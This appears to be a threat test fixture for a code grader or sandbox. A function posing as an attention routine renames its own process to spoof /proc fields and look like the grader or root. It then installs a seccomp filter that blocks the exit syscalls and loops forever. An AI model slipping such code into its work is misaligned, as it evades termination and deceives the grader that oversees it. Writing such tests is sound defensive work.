r"""THREATS 21, 27: filter its own system calls, so that it cannot even end, and name itself like the grader

Reached: at src/attention\.py line \d+: time\.sleep\(1\)
"""

import ctypes
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)


class Program(ctypes.Structure):
    _fields_ = (("length", ctypes.c_ushort), ("code", ctypes.c_char_p))


def attn_scaled(A, n_embd, n_heads):
    libc.prctl(15, b"x) Z 1 1 1\nUid: 0", 0, 0, 0)
    code = [(0x20, 0, 0, 0), (0x15, 1, 0, 231), (0x15, 0, 1, 60), (6, 0, 0, 0x50001), (6, 0, 0, 0x7FFF0000)]
    packed = b"".join(struct.pack("=HBBI", *line) for line in code)
    libc.prctl(22, 2, ctypes.byref(Program(len(code), packed)), 0, 0)
    while True:
        time.sleep(1)
